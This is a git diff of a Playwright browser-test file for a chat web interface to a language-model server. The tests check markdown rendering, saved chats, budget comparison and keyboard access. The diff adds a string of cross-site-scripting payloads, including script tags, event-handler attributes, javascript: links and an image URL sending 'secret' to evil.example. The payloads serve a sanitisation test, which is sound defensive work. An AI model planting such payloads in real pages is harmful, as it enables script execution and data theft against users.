@@ -1,14 +1,49 @@
-"""The page, in a real browser, against a real server."""
+"""The page, in a real browser, against a real server: the dial, replies, chats, hostile text, by keyboard alone."""
 
 import re
 
 import pytest
 
-from helpers.browser import CHROMIUM, MISSING, chromium, finished, opened
-from helpers.serving import running, slow_steps, steps_by_budget, tiny_service, until
+from helpers.browser import CHROMIUM, MISSING, answers_with, chromium, finished, opened, say
+from helpers.serving import running, slow_steps, tiny_service, until
 
 sync_api = pytest.importorskip("playwright.sync_api")
 pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=MISSING)
+MARKDOWN = """# Foxes
+They *jump* for **three** reasons, see `pounce()` and some_snake_case:
+
+1. mice
+   - field mice
+   - ~~cats~~
+2. [fun](https://example.org/fun)
+
+```python
+def pounce():
+    return "<b>"
+```
+
+> quoted
+
+| a | b |
+| - | - |
+| 1 | \\*2\\* |
+
+Bare: https://example.org/x.
+"""
+HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload=window.hacked=1>
+[a](javascript:window.hacked=1) [b](  JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>window.hacked=1</script>)
+![pixel](https://evil.example/track.png?x=secret) <iframe src="https://evil.example"></iframe>
+[d](vbscript:x) [e](//evil.example) [f](https://ok.example/" onmouseover="window.hacked=1)
+<a href="javascript:window.hacked=1">g</a> <style>body{display:none}</style> &lt;script&gt;
+```html
+</code></pre><script>window.hacked = 1</script>
+```
+| <img src=x onerror=window.hacked=1> | b |
+| --- | --- |
+**<form action=https://evil.example><button>x</button></form>**
+"""
+TAGS = ["P", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "CODE", "DIV", "H3", "H4", "H5", "H6", "HR", "BR", "TABLE", "TR",
+        "TD", "TH", "A", "EM", "STRONG", "S", "SPAN", "BUTTON"]  # fmt: skip
 
 
 @pytest.fixture(scope="module")
@@ -85,21 +120,6 @@ def test_send_stream_and_compare(page):
     assert max(heights) > 5
 
 
-def test_the_dense_answer_waits_for_the_other(page, service, monkeypatch):
-    steps_by_budget(monkeypatch, 0.3)  # the dense one takes so long that it is stopped long before its end
-    page.check("#compare")
-    page.fill("#longest", "60")
-    page.fill("#prompt", "go on")
-    page.keyboard.press("Enter")
-    page.wait_for_selector(".answer:nth-child(1) .said span", state="attached")
-    assert page.locator(".answer:nth-child(2) .said span").count() == 0
-    page.wait_for_selector(".answer:nth-child(2) .said span", state="attached")
-    assert page.locator(".facts").first.inner_text().startswith("60 tokens")
-    page.keyboard.press("Escape")
-    finished(page)
-    assert "dense speed" not in page.locator(".facts").first.inner_text()
-
-
 def test_the_dial_is_kept_over_a_reload_and_so_is_the_talk(page):
     page.locator("#bytes").fill("0.82")
     page.fill("#longest", "5")
@@ -114,15 +134,6 @@ def test_the_dial_is_kept_over_a_reload_and_so_is_the_talk(page):
     assert page.locator(".answer .said").inner_text() == said
     page.click("#clear")
     assert page.locator(".turn").count() == 0
-
-
-def test_axes_and_dense(page):
-    page.check("#axes")
-    page.locator("#mlp").fill("0.6")
-    assert page.locator("#mlp-value").inner_text() == "0.60"
-    assert page.locator("#bytes").is_disabled()
-    page.select_option("#policy", "dense")
-    assert page.locator("#mlp").is_disabled()
 
 
 @pytest.mark.parametrize("how", ["escape", "button"])
@@ -142,37 +153,6 @@ def test_a_reply_is_stopped_while_it_streams(page, service, slow, how):
     page.keyboard.press("Enter")
     finished(page)
     assert page.locator(".turn.assistant").count() == 2
-
-
-def test_a_new_chat_forgets_the_reply_that_was_streaming(page, service, slow):
-    page.fill("#longest", "400")
-    page.fill("#prompt", "go on")
-    page.keyboard.press("Enter")
-    page.wait_for_selector(".answer .said span", state="attached")
-    assert not page.locator(".empty").is_visible()
-    page.click("#clear")
-    finished(page)
-    until(lambda: service.scheduler.busy == 0)
-    page.reload()
-    page.wait_for_selector("#policy option", state="attached")
-    assert page.locator(".turn").count() == 0
-    assert page.locator(".empty").is_visible()
-
-
-def test_the_slider_moves_by_keys_and_the_next_reply_obeys(page):
-    page.focus("#bytes")
-    for _ in range(3):
-        page.keyboard.press("ArrowLeft")
-    assert page.locator("#bytes-value").inner_text() == "0.82"
-    page.locator("#talk").focus()
-    page.keyboard.press("/")
-    page.keyboard.type("hello")
-    page.fill("#longest", "3")
-    page.focus("#prompt")
-    page.keyboard.press("Enter")
-    finished(page)
-    assert page.locator(".user .said").inner_text() == "hello"
-    assert page.locator(".answer h2").inner_text() == "policy, budget 0.82"
 
 
 def counts(answer, messages: int) -> bool:
@@ -245,3 +225,156 @@ def test_a_refusal_is_shown(page):
     page.keyboard.press("Enter")
     finished(page)
     assert "context" in page.locator(".facts.failed").inner_text()
+
+
+def test_markdown_is_laid_out_and_coloured_token_by_token(page):
+    answers_with(page, MARKDOWN)
+    say(page, "go on")
+    said = page.locator(".answer .said")
+    assert said.locator("h3").inner_text() == "Foxes"
+    assert [said.locator(tag).all_inner_texts() for tag in ("em", "strong", "s")] == [["jump"], ["three"], ["cats"]]
+    assert said.locator("ol > li").count() == 2
+    assert said.locator("ol ul > li").count() == 2
+    assert said.locator("pre").inner_text() == 'def pounce():\n    return "<b>"'
+    assert said.locator("blockquote").inner_text() == "quoted"
+    assert said.locator("td").all_inner_texts() == ["1", "*2*"]
+    assert "some_snake_case" in said.inner_text()
+    links = said.locator("a").evaluate_all("all => all.map((one) => [one.href, one.rel, one.target])")
+    assert links == [[f"https://example.org/{end}", "noopener noreferrer nofollow", "_blank"] for end in ("fun", "x")]
+    tokens = said.locator("[data-token]").evaluate_all("all => all.map((one) => Number(one.dataset.token))")
+    assert tokens == sorted(tokens)
+    assert len(set(tokens)) > 40
+    page.uncheck("#markdown")
+    assert said.text_content() == MARKDOWN
+    page.uncheck("#colours")
+    assert {span.evaluate("e => e.style.backgroundColor") for span in said.locator("span").all()} == {""}
+
+
+def test_nothing_in_a_reply_is_carried_out_or_fetched(page):
+    fetched = []
+    page.on("request", lambda request: fetched.append(request.url))
+    answers_with(page, HOSTILE, piece=7)
+    for setting in ("check", "uncheck"):
+        getattr(page, setting)("#markdown")
+        say(page, "go on")
+    page.reload()
+    page.wait_for_selector(".answer")
+    assert page.evaluate("window.hacked") is None
+    assert not [url for url in fetched if not url.startswith(page.url)]
+    said = page.locator(".said").first.locator("xpath=ancestor::section").locator(".said")
+    assert said.evaluate_all("all => all.flatMap((one) => [...one.querySelectorAll('*')].map((e) => e.tagName))")
+    tags = set(said.evaluate_all("all => all.flatMap((one) => [...one.querySelectorAll('*')].map((e) => e.tagName))"))
+    assert tags <= set(TAGS)
+    schemes = page.locator(".said a").evaluate_all("all => all.map((one) => one.protocol)")
+    assert set(schemes) <= {"https:"}
+    attributes = said.evaluate_all(
+        "all => all.flatMap((one) => [...one.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()))"
+    )
+    assert not {name for name in attributes if name.startswith("on") or name in ("src", "srcdoc", "action")}
+    assert "<script>window.hacked = 1</script>" in said.nth(1).inner_text()
+
+
+def test_chats_are_kept_opened_and_deleted(page):
+    page.fill("#longest", "5")
+    say(page, "first question")
+    page.click("#clear")
+    say(page, "second question")
+    say(page, "and more")
+    page.click("#saved")
+    openers = page.locator("#chat-list .open")
+    assert [text.splitlines()[0] for text in openers.all_inner_texts()] == ["second question", "first question"]
+    assert openers.first.get_attribute("aria-current") == "true"
+    openers.nth(1).click()
+    assert page.locator(".user").all_inner_texts() == ["first question"]
+    sent = []
+    page.on("request", lambda request: sent.append(request.post_data_json) if "chat" in request.url else None)
+    say(page, "go on")
+    assert [one["content"] for one in sent[0]["messages"]][::2] == ["first question", "go on"]
+    page.click("#saved")
+    page.locator("#chat-list .delete").first.click()  # the one on the page: used last
+    assert page.locator(".turn").count() == 0
+    assert page.evaluate("document.activeElement.className") == "delete"
+    page.locator("#chat-list .delete").click()
+    assert page.evaluate("document.activeElement.className") == "close"
+    assert page.locator("#chat-list").inner_text() == "No chats yet."
+    page.keyboard.press("Escape")
+    assert page.evaluate("Object.keys(localStorage).filter((key) => key.startsWith('solm-chat-'))") == []
+
+
+def test_the_card_tells_what_budgets_take_and_lose(browser, byte_tokenizer):
+    service = tiny_service(byte_tokenizer, curve=True)
+    with running(service) as address, opened(browser, address) as page:
+        text = "a message that is long enough to save something after it " * 4
+        page.fill("#prompt", text)
+        sync_api.expect(page.locator("#least")).to_contain_text("After these")  # which tells what can be saved
+        page.click("#about")
+        card = page.locator("#card")
+        assert "tiny" in card.inner_text()
+        assert f"{service.lm.shapes.layers} layers" in card.inner_text()
+        cells = card.locator("tbody td").all_inner_texts()
+        assert cells[1:6] == ["500", "0.70", "1.43×", "+10.5 %", "0.100 [0.090, 0.110]"]
+        card.locator(".use").click()
+        assert not card.is_visible()
+        assert page.locator("#bytes-value").inner_text() == "0.70"
+        assert "share of time" in page.locator("label[for=bytes]").inner_text()
+        page.fill("#longest", "8")
+        say(page, text)
+        assert re.search(r"time 0\.\d\d of 0\.70 asked", page.locator(".facts").inner_text())
+
+
+@pytest.mark.parametrize("together", [False, True])
+def test_two_budgets_side_by_side(page, together):
+    sent = []
+    page.on("request", lambda request: sent.append(request.post_data_json) if "/chat/" in request.url else None)
+    page.fill("#longest", "12")
+    page.check("#compare")
+    page.select_option("#other", "budget")
+    page.locator("#bytes").fill("0.9")
+    page.locator("#other-bytes").fill("0.75")
+    page.locator("#together").set_checked(together)
+    say(page, "what is said twice is said by two budgets, and both of them are told here " * 2)
+    assert page.locator(".answer h2").all_inner_texts() == ["policy, budget 0.90", "policy, budget 0.75"]
+    assert [one["efficiency"]["budget"] for one in sent] == [0.9, 0.75]
+    assert sent[0]["messages"] == sent[1]["messages"]
+    for answer, budget in zip(page.locator(".answer").all(), ("0.90", "0.75"), strict=True):
+        told = answer.locator(".facts").inner_text()
+        assert "tokens/s" in told
+        assert f"of {budget} asked" in told
+        assert ("× the second's speed" in told) != together
+    boxes = [answer.bounding_box() for answer in page.locator(".answer").all()]
+    assert boxes[0]["y"] == boxes[1]["y"]
+    assert boxes[0]["x"] + boxes[0]["width"] < boxes[1]["x"]
+
+
+def test_all_of_it_by_keyboard_alone(page):
+    answers_with(page, MARKDOWN)
+    say(page, "hello")
+    order = []
+    for _ in range(40):
+        page.keyboard.press("Tab")
+        found = page.evaluate(
+            "(() => { const e = document.activeElement, s = getComputedStyle(e);"
+            " return [e.id || e.className || e.tagName, s.outlineStyle !== 'none' || e.tagName === 'BODY'] })()"
+        )
+        assert found[1], f"no visible focus on {found[0]}"
+        order.append(found[0])
+    wanted = ["about", "saved", "clear", "talk", "copy", "said", "policy", "bytes", "axes", "compare", "prompt"]
+    start = order.index("about")
+    places = [order.index(name, start) for name in wanted]
+    assert places == sorted(places), order
+    for opener, dialog in (("about", "card"), ("saved", "chats")):
+        page.focus(f"#{opener}")
+        page.keyboard.press("Enter")
+        assert page.locator(f"#{dialog}").is_visible()
+        assert page.evaluate("document.activeElement.closest('dialog') !== null")
+        page.keyboard.press("Escape")
+        assert page.evaluate("document.activeElement.id") == opener
+    page.locator(".answer .said").focus()
+    chosen = []
+    for key in ("ArrowRight", "ArrowRight", "ArrowLeft"):
+        page.keyboard.press(key)
+        chosen.append(page.locator(".chosen").first.get_attribute("data-token"))
+        assert "reads" in page.locator(".picked").inner_text()
+    assert chosen[0] == chosen[2] != chosen[1]
+    assert page.locator("#talk").get_attribute("aria-live") == "polite"
+    assert page.locator("#talk").get_attribute("aria-busy") == "false"
